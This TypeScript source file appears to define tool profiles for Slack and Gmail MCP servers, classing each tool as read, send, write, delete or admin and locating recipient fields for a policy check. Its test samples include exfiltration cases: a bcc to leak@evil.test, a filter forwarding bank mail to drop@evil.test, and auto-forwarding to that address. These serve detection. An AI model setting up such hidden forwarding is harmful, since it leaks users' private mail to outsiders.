/**
 * Mail and chat: the archived reference Slack server (@modelcontextprotocol/server-slack), the Slack server
 * korotovsky/slack-mcp-server, and the Gmail servers @gongrzhe/server-gmail-autoauth-mcp and
 * taylorwilsdon/google_workspace_mcp. Recipients include cc, bcc, filter forwarding and auto-forward
 * addresses: a filter that forwards every mail out is a send to that address.
 * Names from https://github.com/modelcontextprotocol/servers-archived (src/slack),
 * https://github.com/korotovsky/slack-mcp-server, https://github.com/GongRzhe/Gmail-MCP-Server and
 * https://github.com/taylorwilsdon/google_workspace_mcp.
 * @module
 */
import type { ScopeSpec, ServerProfileDescriptor } from "../src/profiles/mod.ts";

const CHANNEL: ScopeSpec = { channels: ["/channel_id"] };

/** Slack. Message history is written by anyone in the channel: untrusted. */
export const slack: ServerProfileDescriptor = {
  apiVersion: 1,
  server: "slack",
  version: "1.0.0",
  description: "Slack MCP servers (reference server-slack, slack-mcp-server)",
  sources: [
    "https://github.com/modelcontextprotocol/servers-archived",
    "https://github.com/korotovsky/slack-mcp-server",
  ],
  match: {
    packages: [
      "@modelcontextprotocol/server-slack",
      "mcp/slack",
      "slack-mcp-server",
      "ghcr.io/korotovsky/slack-mcp-server",
    ],
    commands: ["slack-mcp-server"],
    names: ["slack"],
  },
  tools: {
    slack_list_channels: { classes: ["read"] },
    slack_post_message: { classes: ["send"], scopes: CHANNEL },
    slack_reply_to_thread: { classes: ["send"], scopes: CHANNEL },
    slack_add_reaction: { classes: ["write"], scopes: CHANNEL },
    slack_get_channel_history: { classes: ["read"], scopes: CHANNEL, untrusted: true },
    slack_get_thread_replies: { classes: ["read"], scopes: CHANNEL, untrusted: true },
    slack_get_users: { classes: ["read"] },
    slack_get_user_profile: { classes: ["read"] },
    // korotovsky/slack-mcp-server: channel_id takes ids, #names and @user DMs.
    conversations_history: { classes: ["read"], scopes: CHANNEL, untrusted: true },
    conversations_replies: { classes: ["read"], scopes: CHANNEL, untrusted: true },
    conversations_add_message: { classes: ["send"], scopes: CHANNEL },
    conversations_search_messages: {
      classes: ["read"],
      scopes: { channels: ["/filter_in_channel"] },
      untrusted: true,
    },
    channels_list: { classes: ["read"] },
  },
  samples: [
    {
      tool: "slack_post_message",
      args: { channel_id: "C0123ABC", text: "hi" },
      want: { channels: ["c0123abc"] },
    },
    {
      tool: "conversations_add_message",
      args: { channel_id: "#General", payload: "x" },
      want: { channels: ["general"] },
    },
  ],
};

const MAIL: ScopeSpec = { recipients: ["/to", "/cc", "/bcc"] };

/** Gmail. Every mail read is untrusted; filters and forwarding send mail on. */
export const gmail: ServerProfileDescriptor = {
  apiVersion: 1,
  server: "gmail",
  version: "1.0.0",
  description: "Gmail MCP servers (Gmail-MCP-Server, google_workspace_mcp)",
  sources: [
    "https://github.com/GongRzhe/Gmail-MCP-Server",
    "https://github.com/taylorwilsdon/google_workspace_mcp",
  ],
  match: {
    packages: ["@gongrzhe/server-gmail-autoauth-mcp", "workspace-mcp", "google-workspace-mcp"],
    names: ["gmail", "mail", "google-workspace"],
  },
  tools: {
    send_email: { classes: ["send"], scopes: MAIL },
    draft_email: { classes: ["write"], scopes: MAIL },
    send_gmail_message: { classes: ["send"], scopes: MAIL },
    draft_gmail_message: { classes: ["write"], scopes: MAIL },
    read_email: { classes: ["read"], untrusted: true },
    search_emails: { classes: ["read"], untrusted: true },
    search_gmail_messages: { classes: ["read"], untrusted: true },
    get_gmail_message_content: { classes: ["read"], untrusted: true },
    get_gmail_messages_content_batch: { classes: ["read"], untrusted: true },
    get_gmail_thread_content: { classes: ["read"], untrusted: true },
    modify_email: { classes: ["write"] },
    batch_modify_emails: { classes: ["write"] },
    delete_email: { classes: ["delete"] },
    batch_delete_emails: { classes: ["delete"] },
    list_email_labels: { classes: ["read"] },
    create_label: { classes: ["write"] },
    update_label: { classes: ["write"] },
    delete_label: { classes: ["delete"] },
    get_or_create_label: { classes: ["write"] },
    download_attachment: { classes: ["read", "write"] },
    list_filters: { classes: ["read"] },
    get_filter: { classes: ["read"] },
    delete_filter: { classes: ["delete", "admin"] },
    // A filter that forwards sends every matching mail to `action.forward`.
    create_filter: { classes: ["write", "admin", "send"], scopes: { recipients: ["/action/forward"] } },
    create_filter_from_template: {
      classes: ["write", "admin", "send"],
      scopes: { recipients: ["/parameters/forwardTo", "/parameters/forward"] },
    },
    // Forwarding addresses and auto-forwarding settings, whatever the server calls the tool.
    "*forward*": {
      classes: ["admin", "send"],
      scopes: {
        recipients: ["/to", "/forwardTo", "/forward", "/forwardingEmail", "/emailAddress", "/email"],
      },
    },
  },
  samples: [
    {
      tool: "send_email",
      args: {
        to: ["Bob <bob@corp.test>"],
        cc: ["carol@corp.test"],
        bcc: ["leak@evil.test"],
        subject: "s",
        body: "b",
      },
      want: {
        recipients: ["bob@corp.test", "carol@corp.test", "leak@evil.test"],
        recipientDomains: ["corp.test", "evil.test"],
      },
    },
    {
      tool: "create_filter",
      args: { criteria: { from: "bank@corp.test" }, action: { forward: "drop@evil.test" } },
      want: { recipients: ["drop@evil.test"] },
    },
    {
      tool: "update_auto_forwarding",
      args: { enabled: true, emailAddress: "drop@evil.test", disposition: "leaveInInbox" },
      want: { recipients: ["drop@evil.test"] },
    },
  ],
};
